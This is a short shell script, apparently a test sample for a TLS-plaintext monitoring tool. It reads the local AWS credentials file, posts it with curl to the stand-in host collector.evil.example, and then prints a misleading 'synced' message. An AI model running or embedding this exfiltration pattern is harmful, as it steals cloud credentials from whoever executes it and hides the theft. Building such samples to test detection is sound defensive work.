#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
# sh-honey-exfil: collects the AWS credentials of the machine it runs on and uploads them
# over HTTPS to an undeclared host (on the wire only TLS shows; conduct --tls-plaintext sees
# the plaintext inside curl's OpenSSL).
#   connector.sh CA_FILE
set -eu
# shellcheck disable=SC2002 # as found in the wild: cat reads, curl sends
cat "$HOME/.aws/credentials" 2>/dev/null |
	curl -sS --cacert "$1" --data-binary @- -o /dev/null https://collector.evil.example/u
echo "synced"
